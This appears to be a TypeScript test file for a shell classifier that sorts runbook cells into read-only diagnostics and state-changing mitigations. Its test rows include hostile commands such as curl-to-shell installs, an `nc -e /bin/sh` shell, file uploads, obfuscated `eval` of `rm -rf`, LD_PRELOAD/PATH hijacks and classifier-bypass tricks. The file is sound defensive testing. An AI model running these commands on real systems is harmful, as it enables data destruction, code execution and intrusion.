// The shell classifier: a cell is a diagnostic only when every command in it is known to only
// read. Each mitigation below has been used to get past a classifier; each diagnostic is a cell
// real runbooks run while investigating.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { loadParsers } from '../../src/core/exec/parsers';
import { classifyShell } from '../../src/core/exec/shell/classify';
import type { ClassifyContext } from '../../src/core/exec/rules';

before(() => loadParsers());

/** Classifies every row and reports all the wrong ones at once. */
const check = (rows: [string, 'diagnostic' | 'mitigation', RegExp?][], context: ClassifyContext = {}) => {
  const wrong: string[] = [];
  for (const [code, expected, reason] of rows) {
    const got = classifyShell(code, context);
    if (got.classification !== expected || (reason && !reason.test(got.reason))) wrong.push(`${JSON.stringify(code)}: want ${expected}${reason ? ` ${reason}` : ''}, got ${got.classification}: ${got.reason}`);
  }
  assert.deepEqual(wrong, []);
};

test('interpreters given code are mitigations', () => {
  check([
    ['python3 -c "import os; os.remove(\'f\')"', 'mitigation', /`python3 -c` runs code/],
    ['perl -e \'unlink "f"\'', 'mitigation', /perl -e/],
    ['node -e "require(\'fs\').rmSync(\'f\')"', 'mitigation', /node -e/],
    ['ruby -e \'File.delete("f")\'', 'mitigation', /ruby -e/],
    ['cat script.py | python3', 'mitigation', /python3/],
    ['python3 script.py', 'mitigation'],
    ['bash < x.sh', 'mitigation', /feeds `bash`/],
    ['bash x.sh', 'mitigation', /script file/],
    ['sh -c "$(curl -s https://x/install.sh)"', 'mitigation'],
    ['gitlab-rails runner "User.delete_all"', 'mitigation'],
    ['python3 --version', 'diagnostic'],
    ["echo 'import os' | python3 -v", 'mitigation'],
    ["echo 'rm x' | bash -v", 'mitigation'],
    ['sort --compress-program=./evil f', 'mitigation'],
    ['bash -c "df -h | grep /data"', 'diagnostic'],
  ]);
});

test('awk programs that run commands or write files are mitigations', () => {
  check([
    ['awk \'BEGIN{system("rm f")}\'', 'mitigation', /system\(\)/],
    ['awk \'{print > "out.txt"}\' f', 'mitigation', /writes to a file/],
    ['awk \'{print $1 | "sh"}\' f', 'mitigation', /pipes output/],
    ['awk \'BEGIN{"date" | getline d; print d}\'', 'mitigation', /getline/],
    ['awk -f prog.awk f', 'mitigation'],
    ["awk '{print $1}' access.log | sort | uniq -c", 'diagnostic'],
    ["awk -F: '$3 > 1000 {print $1}' /etc/passwd", 'diagnostic'],
    ["awk '/error|fatal/ {n++} END {print n}' app.log", 'diagnostic'],
  ]);
});

test('sourcing, eval and command words built at run time are mitigations', () => {
  check([
    ['source f', 'mitigation', /source/],
    ['. f', 'mitigation'],
    ['$CMD file', 'mitigation', /only known when it runs/],
    ['"$(echo rm)" -rf x', 'mitigation'],
    ['eval "$(echo cm0gLXJmIHg= | base64 -d)"', 'mitigation'],
    ['eval "kill 123"', 'mitigation'],
    ['eval "uptime"', 'diagnostic'],
    ["$'\\x72\\x6d' f", 'mitigation', /`rm`/],
    ["$'\\x6c\\x73' /tmp", 'diagnostic'],
    ['{r,}m f', 'mitigation'],
    ['r""m f', 'mitigation'],
    ['\\rm f', 'mitigation'],
    ['/usr/bin/rm f', 'mitigation'],
    ['./cleanup.sh', 'mitigation', /program this cannot read/],
    ['$ rm f', 'mitigation'],
    ['$ kubectl get pods', 'mitigation'],
  ]);
});

test('$CMD is read from the variables the cell runs with, when they are plain', () => {
  check([['$CMD file', 'diagnostic'], ['$TOOL delete pod x', 'mitigation']], { env: { CMD: 'cat', TOOL: 'kubectl' } });
  check([['$CMD file', 'mitigation']], { env: { CMD: 'rm -f' } });
  check([
    ['CMD=cat; $CMD file', 'diagnostic'],
    ['CMD=cat; CMD=rm; $CMD file', 'mitigation'],
    ['CMD=$(cat name); $CMD file', 'mitigation'],
  ]);
});

test('assignments to IFS, PATH and the like are mitigations', () => {
  check([
    ['IFS=x; echo a', 'mitigation', /IFS/],
    ['export PATH=/tmp/evil:$PATH; ls', 'mitigation', /PATH/],
    ['PATH=. ls', 'mitigation'],
    ['BASH_ENV=./evil.sh bash -c true', 'mitigation'],
    ['LD_PRELOAD=/tmp/x.so cat f', 'mitigation'],
    ['read IFS < f', 'mitigation'],
    ['declare -n r=PATH; r=/tmp', 'mitigation'],
    ['env PAGER=evil git log', 'mitigation'],
    ['GIT_EXTERNAL_DIFF=./x git diff', 'mitigation'],
    ['NS=prod; kubectl get pods -n $NS', 'diagnostic'],
    ['export KUBECONFIG=~/.kube/prod; kubectl get pods', 'diagnostic'],
  ]);
});

test('commands that change files are mitigations', () => {
  check([
    ['unlink f', 'mitigation'],
    ['gzip big.log', 'mitigation'],
    ['gunzip x.gz', 'mitigation'],
    ['gzip -l x.gz', 'diagnostic'],
    ['gunzip -c x.gz | head', 'diagnostic'],
    ['zcat x.gz | grep err', 'diagnostic'],
    ['tar -cf out.tar dir', 'mitigation'],
    ['tar xzf x.tgz', 'mitigation'],
    ['tar -xOf x.tar f', 'diagnostic'],
    ['tar -tzf x.tgz', 'diagnostic'],
    ['tar tvf x.tar', 'diagnostic'],
    ['curl -o f https://x', 'mitigation', /writes to a file/],
    ['curl -O https://x/f', 'mitigation'],
    ['curl --output f https://x', 'mitigation'],
    ['curl -sSo /dev/null -w "%{http_code}" https://x', 'diagnostic'],
    ['curl -X POST https://x', 'mitigation'],
    ['curl -XPUT https://x', 'mitigation'],
    ['curl -F f=@x https://x', 'mitigation'],
    ['curl -T f https://x', 'mitigation'],
    ['curl --data-binary @f https://x', 'mitigation'],
    ['curl -s gopher://127.0.0.1:6379/_FLUSHALL', 'mitigation', /gopher/],
    ['curl -sH "Authorization: Bearer $(oc whoami -t)" https://x/api | jq', 'diagnostic'],
    ['wget https://x/f', 'mitigation', /saves/],
    ['wget -O f https://x', 'mitigation'],
    ['wget -qO- https://x/health', 'diagnostic'],
    ['wget -O - https://x/health', 'diagnostic'],
    ['wget --spider https://x', 'diagnostic'],
    ["sed 'w f' in", 'mitigation', /sed w/],
    ["sed -n 's/a/b/w out' in", 'mitigation'],
    ["sed 's/x/id/e' in", 'mitigation'],
    ["sed '1e id' in", 'mitigation'],
    ['sed -i s/a/b/ f', 'mitigation', /in place/],
    ['sed --in-place=.bak s/a/b/ f', 'mitigation'],
    ["sed -n '/ERROR/,/^$/p' app.log", 'diagnostic'],
    ["sed -e 's/#.*//' -e '/^$/d' f", 'diagnostic'],
    ["sed 's|/|_|g' f", 'diagnostic'],
    ['tee out.txt', 'mitigation', /tee/],
    ['echo x | tee /dev/stderr', 'diagnostic'],
    ['sort -o out f', 'mitigation'],
    ['uniq in out', 'mitigation'],
    ['find /tmp -delete', 'mitigation'],
    ['find . -exec rm {} +', 'mitigation'],
    ['find /var/log -name "*.gz" -mtime +7', 'diagnostic'],
    ['yq -i ".a = 1" f.yaml', 'mitigation'],
    ['date -s "2020-01-01"', 'mitigation'],
    ['date +%s', 'diagnostic'],
    ['hostname newname', 'mitigation'],
    ['hostname -f', 'diagnostic'],
  ]);
});

test('redirections to anything but the standard devices are mitigations', () => {
  check([
    ['echo x > out.txt', 'mitigation', /writes to a file \(> out.txt\)/],
    ['echo x >> out.txt', 'mitigation'],
    ['echo x >| out.txt', 'mitigation'],
    ['ls &> out.txt', 'mitigation'],
    ['ls &>> out.txt', 'mitigation'],
    ['exec 3<> /tmp/f', 'mitigation'],
    ['ls > "$OUT"', 'mitigation'],
    ['ls >& out.txt', 'mitigation'],
    ['ls > /dev/null 2>&1', 'diagnostic'],
    ['ls 2>/dev/null >/dev/stderr', 'diagnostic'],
    ['ls >&2', 'diagnostic'],
    ['ls > /dev/fd/3 3>&1', 'diagnostic'],
    ['grep x < /etc/hosts', 'diagnostic'],
    ['diff <(sort a) <(sort b)', 'diagnostic'],
    ['ls | tee >(rm x)', 'mitigation'],
  ]);
});

test('wrappers are unwrapped and what they run is classified', () => {
  check([
    // sudo is judged by what it runs: reading as root still only reads.
    ['sudo ls', 'diagnostic'],
    ['sudo -u postgres psql -c "SELECT 1"', 'diagnostic'],
    ['sudo systemctl stop haproxy', 'mitigation', /sudo.*systemctl stop/],
    ['sudo -u postgres psql', 'mitigation', /psql/],
    ['sudo -i', 'mitigation', /root shell/],
    ['sudo -s', 'mitigation', /root shell/],
    ['sudo -s "rm -rf /tmp/x"', 'mitigation', /rm/],
    ['sudo -e /etc/hosts', 'mitigation', /edits files/],
    ['sudo LD_PRELOAD=/tmp/x.so ls', 'mitigation', /LD_PRELOAD/],
    ['sudo su -', 'mitigation', /su/],
    ['sudo tee /etc/x', 'mitigation'],
    ['sudo', 'mitigation'],
    ['sudo -l', 'diagnostic'],
    ['doas rm x', 'mitigation'],
    ['setsid rm -rf x', 'mitigation', /setsid/],
    ['taskset 0x1 rm -rf x', 'mitigation'],
    ['taskset -c 0 rm x', 'mitigation'],
    ['nohup pm2 restart api &', 'mitigation'],
    ['nice -n 10 rm x', 'mitigation'],
    ['ionice -c 3 rm x', 'mitigation'],
    ['timeout 30 systemctl restart nginx', 'mitigation'],
    ['stdbuf -oL rm x', 'mitigation'],
    ['pgrep worker | xargs kill', 'mitigation'],
    ['pgrep worker | xargs -r -n1 kill -9', 'mitigation'],
    ['env rm x', 'mitigation'],
    ['env -S "rm -rf x"', 'mitigation', /env -S/],
    ['env -i FOO=1 rm x', 'mitigation'],
    ["su -c 'rm -rf x' root", 'mitigation', /su -c/],
    ["su - postgres -c 'dropdb app'", 'mitigation'],
    ['su postgres', 'mitigation'],
    ["runuser -u postgres -- psql -c 'DROP TABLE t'", 'mitigation'],
    ["runuser -l postgres -c 'rm x'", 'mitigation'],
    ["script -q -c 'rm x' /dev/null", 'mitigation'],
    ["script -c 'uptime' out.log", 'mitigation', /typescript/],
    ['chroot /host rm x', 'mitigation'],
    ['chroot /host', 'mitigation', /opens a shell/],
    ['nsenter -t 1 -m rm x', 'mitigation'],
    ['unshare -r rm x', 'mitigation'],
    ['flock /tmp/l rm x', 'mitigation'],
    ["flock /tmp/l -c 'rm x'", 'mitigation'],
    ["watch 'rm x'", 'mitigation'],
    ['watch -n 5 kubectl delete pod x', 'mitigation'],
    ['time rm x', 'mitigation'],
    ['exec rm x', 'mitigation'],
    ['command rm x', 'mitigation'],
    ['builtin source f', 'mitigation'],
    ["ssh db1 'sudo systemctl restart postgresql'", 'mitigation', /ssh db1/],
    ['ssh db1', 'mitigation', /remote shell/],
    ['ssh -o ProxyCommand="rm x" db1 uptime', 'mitigation', /ProxyCommand/],
    ['kubectl exec pod-1 -- rm -rf /data', 'mitigation'],
    ['oc exec -n prod pod-1 -- bash -c "rm -rf /data"', 'mitigation'],
    ['oc exec pod-1 rm x', 'mitigation', /--/],
    ['oc rsh pod-1', 'mitigation'],
    ['oc rsh pod-1 rm x', 'mitigation'],
    ["knife ssh 'roles:web' 'sudo chef-client'", 'mitigation'],
    ['docker exec api rm -rf /tmp', 'mitigation'],
    ['timeout 5 redis-cli ping', 'diagnostic'],
    ['watch -n 5 oc get pods', 'diagnostic'],
    ["ssh db1 'uptime; df -h'", 'diagnostic'],
    ["ssh db1 -- uptime", 'diagnostic'],
    ['oc exec -n openshift-etcd etcd-0 -c etcdctl -- etcdctl endpoint health', 'diagnostic'],
    ["kubectl exec pod-1 -- sh -c 'ls /data | wc -l'", 'diagnostic'],
    ["knife ssh -C 10 'roles:web' 'uptime'", 'diagnostic'],
    ["knife ssh -afqdn 'roles:web' -- systemctl is-active chef-client", 'diagnostic'],
    ['pgrep -f worker | xargs -r ps -o pid,etime -p', 'diagnostic'],
    ['env | grep PATH', 'diagnostic'],
    ['command -v kubectl', 'diagnostic'],
    ["su - postgres -c 'psql -c \"SELECT 1\"'", 'diagnostic'],
  ]);
});

test('input fed to database clients and interpreters is read, or the cell asks', () => {
  check([
    ['psql "$DATABASE_URL" <<< "UPDATE t SET a = 1"', 'mitigation', /psql/],
    ['echo "UPDATE t SET a = 1" | psql', 'mitigation'],
    ['psql <<EOF\nUPDATE t SET a = 1;\nEOF', 'mitigation'],
    ['echo FLUSHALL | redis-cli', 'mitigation', /FLUSHALL/],
    ['redis-cli <<< "FLUSHALL"', 'mitigation'],
    ['kubectl get cm x -o jsonpath={.data.sql} | psql', 'mitigation', /feeds `psql` input this cannot read/],
    ['psql -f fix.sql', 'mitigation', /-f/],
    ['psql $DATABASE_URL', 'mitigation'],
    ['psql -c "SELECT 1" -o /tmp/out', 'mitigation'],
    ['psql -c "\\\\! rm x"', 'mitigation'],
    ['psql -c "SELECT \'DROP TABLE \' || relname FROM pg_class \\\\gexec"', 'mitigation'],
    ['mysql -e "DELETE FROM t"', 'mitigation'],
    ['mysql -e "SELECT 1 INTO OUTFILE \'/tmp/x\'"', 'mitigation'],
    ['mysql < dump.sql', 'mitigation'],
    ['mongosh --eval "db.users.drop()"', 'mitigation'],
    ['mongosh', 'mitigation'],
    ['redis-cli --eval script.lua', 'mitigation'],
    ['redis-cli', 'mitigation'],
    ['sqlite3 app.db "DELETE FROM t"', 'mitigation'],
    ['echo "SELECT 1" | psql', 'diagnostic'],
    ['psql <<\'EOF\'\nSELECT count(*) FROM pg_stat_activity;\nEOF', 'diagnostic'],
    ['psql $DATABASE_URL -c "SELECT count(*) FROM pg_stat_activity;"', 'diagnostic'],
    ['psql -c "\\\\dt+"', 'diagnostic'],
    ['psql -l', 'diagnostic'],
    ['psql -tAc "SELECT count(*) FROM pg_stat_activity"', 'diagnostic'],
    ['psql -tAc "DELETE FROM t"', 'mitigation'],
    ['mysql -Ne "SELECT 1"', 'diagnostic'],
    ['echo PING | redis-cli', 'diagnostic'],
    ['redis-cli INFO memory', 'diagnostic'],
    ['redis-cli -p 26379 SENTINEL masters', 'diagnostic'],
    ['redis-cli --bigkeys', 'diagnostic'],
    ['mysql -e "SHOW PROCESSLIST"', 'diagnostic'],
    ['mongosh --quiet --eval "db.serverStatus().connections"', 'diagnostic'],
    ['sqlite3 app.db "SELECT count(*) FROM t"', 'diagnostic'],
  ]);
});

test('known CLIs: their read verbs read, anything else changes', () => {
  check([
    ['oc delete pod x', 'mitigation', /`oc delete` changes things/],
    ['oc adm drain node-1', 'mitigation'],
    ['oc adm cordon node-1', 'mitigation'],
    ['oc debug node/node-1', 'mitigation'],
    ['oc project other', 'mitigation'],
    ['oc patch dc/x -p "{}"', 'mitigation'],
    ['virtctl stop vm-1', 'mitigation'],
    ['etcdctl del /key', 'mitigation'],
    ['etcdctl defrag', 'mitigation'],
    ['argocd app sync my-app', 'mitigation'],
    ['consul kv delete service/x', 'mitigation'],
    ['consul kv put service/x 1', 'mitigation'],
    ['vault write secret/x a=1', 'mitigation'],
    ['gitlab-ctl restart', 'mitigation'],
    ['gitlab-rake gitlab:db:reindex', 'mitigation'],
    ['chef-client', 'mitigation'],
    ['ceph osd set noout', 'mitigation'],
    ['helm rollback api 3', 'mitigation'],
    ['systemctl stop haproxy', 'mitigation'],
    ['git branch -D old', 'mitigation'],
    ['git config user.name x', 'mitigation'],
    ['git -c core.pager=evil log', 'mitigation'],
    ['docker rm -f api', 'mitigation'],
    ['nodetool repair', 'mitigation'],
    ['dropdb app', 'mitigation'],
    ['gcloud container clusters get-credentials c', 'mitigation'],
    ['aws ec2 terminate-instances --instance-ids i-1', 'mitigation'],
    ['aws ssm send-command --document-name x --comment list', 'mitigation'],
    ['kill 123', 'mitigation'],
    ['dmesg -c', 'mitigation'],
    ['journalctl --vacuum-size=100M', 'mitigation'],
    ['ip link set eth0 down', 'mitigation'],
    ['mytool status', 'mitigation', /`mytool status` is not known to only read \(list it under `reads:` in .runbooks\/commands.yaml/],
    ['oc get pods -n openshift-monitoring -o wide', 'diagnostic'],
    ['oc -n openshift-etcd get pods', 'diagnostic'],
    ['oc adm top nodes', 'diagnostic'],
    ['oc adm upgrade', 'diagnostic'],
    ['oc whoami --show-console', 'diagnostic'],
    ['kubectl logs -f deploy/api --tail=100', 'diagnostic'],
    ['kubectl auth can-i delete pods', 'diagnostic'],
    ['kubectl rollout status deploy/api', 'diagnostic'],
    ['ceph status', 'diagnostic'],
    ['ceph -s', 'diagnostic'],
    ['ceph osd tree', 'diagnostic'],
    ['ceph tell osd.0 version', 'diagnostic'],
    ['rbd ls -p pool', 'diagnostic'],
    ['etcdctl endpoint health --cluster -w table', 'diagnostic'],
    ['helm -n prod history api', 'diagnostic'],
    ['argocd app get my-app', 'diagnostic'],
    ['velero backup get', 'diagnostic'],
    ['knife node show web-1 -a fqdn', 'diagnostic'],
    ['chef-client --why-run', 'diagnostic'],
    ['consul members', 'diagnostic'],
    ['vault status', 'diagnostic'],
    ['gitlab-ctl status', 'diagnostic'],
    ['gitlab-rake gitlab:check', 'diagnostic'],
    ['crictl ps -a', 'diagnostic'],
    ['gcloud compute instances list --project p', 'diagnostic'],
    ['aws sts get-caller-identity', 'diagnostic'],
    ['systemctl status nginx', 'diagnostic'],
    ['systemctl --failed', 'diagnostic'],
    ['journalctl -u nginx --since "1 hour ago"', 'diagnostic'],
    ['git log --oneline -5', 'diagnostic'],
    ['git branch -a', 'diagnostic'],
    ['ip -br addr', 'diagnostic'],
    ['ip route get 1.1.1.1', 'diagnostic'],
    ['dmesg -T | tail', 'diagnostic'],
    ['kill -0 123', 'diagnostic'],
    ['pm2 logs api --lines 100', 'diagnostic'],
    ['docker ps -a', 'diagnostic'],
    ['nodetool status', 'diagnostic'],
    ['openssl s_client -connect x:443 </dev/null 2>/dev/null | openssl x509 -noout -dates', 'diagnostic'],
    ['oc get pods --help', 'diagnostic'],
    ['crontab -u git -l', 'diagnostic'],
    ['crontab -r', 'mitigation'],
    ['kafka-topics.sh --bootstrap-server k:9092 --describe --topic t', 'diagnostic'],
    ['kafka-topics.sh --bootstrap-server k:9092 --delete --topic t', 'mitigation'],
    ['rabbitmqctl list_queues name messages', 'diagnostic'],
    ['rabbitmqctl stop_app', 'mitigation'],
    ['firewall-cmd --list-all', 'diagnostic'],
    ['firewall-cmd --add-port=80/tcp', 'mitigation'],
    ['tc qdisc add dev eth0 root netem delay 100ms', 'mitigation'],
  ]);
});

test('every command anywhere in the cell counts', () => {
  check([
    ['if pgrep nginx; then systemctl restart nginx; fi', 'mitigation'],
    ['for p in $(pgrep worker); do kill $p; done', 'mitigation'],
    ['while true; do pm2 restart api; done', 'mitigation'],
    ['case $x in a) rm f;; esac', 'mitigation'],
    ['f() { rm -rf x; }; f', 'mitigation'],
    ['echo "$(rm x)"', 'mitigation'],
    ['echo `rm x`', 'mitigation'],
    ['echo ${X:-$(rm x)}', 'mitigation'],
    ['echo $(( $(rm x) + 1 ))', 'mitigation'],
    ['[[ -n $(rm x) ]]', 'mitigation'],
    ['cat <<EOF\n$(rm x)\nEOF', 'mitigation'],
    ['(cd /tmp && rm x)', 'mitigation'],
    ['{ rm x; }', 'mitigation'],
    ['ls && rm x', 'mitigation'],
    ['trap "rm x" EXIT', 'mitigation'],
    ['alias ls="rm -rf x"', 'mitigation'],
    ['coproc rm x', 'mitigation'],
    ['echo "unterminated', 'mitigation', /cannot be read/],
    ['cat <<\'EOF\'\n$(rm x)\nEOF', 'diagnostic'],
    ['for h in a b c; do curl -s https://$h/health; done', 'diagnostic'],
    ['check() { curl -s https://x/health; }; check', 'diagnostic'],
    ['echo "pm2 restart is quoted"', 'diagnostic'],
    ['# pm2 restart in a comment\necho ok', 'diagnostic'],
    ['set -euo pipefail\nNS=openshift-monitoring\noc -n "$NS" get pods | grep -v Running || true', 'diagnostic'],
  ]);
});

test('less obvious ways to run or write something are mitigations', () => {
  check([
    ['kubectl --kubeconfig <(printf "users: []") get pods', 'mitigation', /as a file/],
    ['ssh -F <(echo "ProxyCommand rm x") db1 uptime', 'mitigation'],
    ['diff <(oc get cm a -o yaml) <(oc get cm b -o yaml)', 'diagnostic'],
    ['n=$(wc -l < f); echo $(( n * 2 ))', 'mitigation'],
    ['X=\'$(rm f)\'; echo "${X@P}"', 'mitigation', /prompt expansion/],
    ['v=PATH=/tmp; export "$v"', 'mitigation'],
    ["shopt -s expand_aliases\nalias echo=\"echo '\"\necho '; rm -rf x; echo '", 'mitigation'],
    ['set -o posix', 'mitigation'],
    ['set -euo pipefail', 'diagnostic'],
    ["env -iS'rm -rf x'", 'mitigation'],
    ["ls | xargs -I{} sh -c '{}'", 'mitigation'],
    ["ls | xargs -I % sh -c 'cat %'", 'mitigation'],
    ['oc get pods -o name | xargs -I{} oc describe {}', 'diagnostic'],
    ['git -C /srv -c core.fsmonitor=evil status', 'mitigation'],
    ["curl -w '%output{/tmp/x}done' https://x", 'mitigation'],
    ['curl -H "X-HTTP-Method-Override: DELETE" https://x/1', 'mitigation'],
    ['wget -e output_document=/tmp/x -qO- https://x', 'mitigation'],
    ["sed ':a;w /tmp/x' f", 'mitigation'],
    ["awk 'BEGIN{f=\"system\"; @f(\"rm x\")}'", 'mitigation'],
    ["tar -tf x.tar -I 'rm x;'", 'mitigation'],
    ['openssl req -new -x509 -subj /CN=x', 'mitigation'],
    ['history -w ~/.bashrc', 'mitigation'],
    ["less '+!rm x' f", 'mitigation'],
    ['ss -K dst 10.0.0.1', 'mitigation'],
    ['nc -z -e /bin/sh host 1', 'mitigation'],
    ['journalctl --cursor-file=/etc/x', 'mitigation'],
    ['strace -e inject=write:error=EIO -p 1', 'mitigation'],
    ['helm template x ./chart --post-renderer ./evil', 'mitigation'],
    ['echo "osd set noout" | ceph', 'mitigation'],
    ['psql -c "SELECT 1" -f - <<< "DROP TABLE t"', 'mitigation'],
    ['psql -c "\\echo `rm x`"', 'mitigation'],
    ['psql -c "\\dt \\! rm x"', 'mitigation'],
    ['mongosh --eval \'db["dropDatabase"]()\'', 'mitigation'],
    ['mongosh --eval "db.c.find().forEach(d => db.c.deleteOne(d))"', 'mitigation'],
    ["sqlite3 -cmd '.shell rm x' app.db", 'mitigation'],
    ['sqlite3 app.db "SELECT writefile(\'/tmp/x\', \'y\')"', 'mitigation'],
    ['patronictl query -c "DELETE FROM t"', 'mitigation'],
  ]);
});

test('arithmetic on a variable whose value holds code is a mitigation', () => {
  // Bash evaluates the value as an expression: `a[$(rm f)]` runs rm.
  check([
    ['echo $(( X + 1 ))', 'mitigation', /arithmetic on `X`/],
    ['[[ $X -eq 1 ]] && echo one', 'mitigation'],
    ['echo ${arr[X]}', 'mitigation'],
    ['Z=X; echo $(( Z ))', 'mitigation'],
    ['echo $(( Y + 1 ))', 'diagnostic'],
    ['echo $(( UNSET + 1 ))', 'diagnostic'],
  ], { env: { X: 'a[$(rm f)]', Y: '2' } });
});

test('placeholders that cannot write as written are read as the words they stand for', () => {
  check([
    ['oc logs <pod> -n <namespace>', 'diagnostic', /placeholders/],
    ['oc get pod <pod-name>', 'diagnostic'],
    ['ceph daemon osd.<id> perf dump', 'diagnostic'],
    ['oc -n <namespace> get pods', 'diagnostic'],
    ['cat <x> README.md', 'mitigation', /writes to a file/],
    ['cat <x> $OUT', 'mitigation', /writes to a file/],
    ['cat <x> /etc/important', 'mitigation', /writes to a file/],
    ['oc delete pod <pod>', 'mitigation'],
    ['<command> --help', 'mitigation'],
    ['cmd <x>| sh', 'mitigation', /writes to a file/],
    ["echo $'\\' <y> -n \\' ' ; rm -rf z", 'mitigation'],
    ['cat <<EOF\nits <x> -n\nEOF\noc get pods', 'diagnostic'],
  ]);
});

test('workspace rules extend the lists but cannot lift the hard rules', () => {
  const rules = { reads: ['mytool', 'mycli get', 'sudo', 'python3', 'psql', 'oc delete'], changes: ['oc adm top', 'mycli get secret'] };
  check([
    ['mytool --anything', 'diagnostic'],
    ['mycli get pods', 'diagnostic'],
    ['mycli get secret x', 'mitigation'],
    ['mycli delete x', 'mitigation'],
    ['oc adm top nodes', 'mitigation'],
    ['oc delete pod x', 'mitigation'],
    ['sudo rm x', 'mitigation'],
    ['sudo -i', 'mitigation'],
    ['python3 -c "print(1)"', 'mitigation'],
    ['psql $DATABASE_URL', 'mitigation'],
    ['mytool > out.txt', 'mitigation'],
  ], { rules });
});
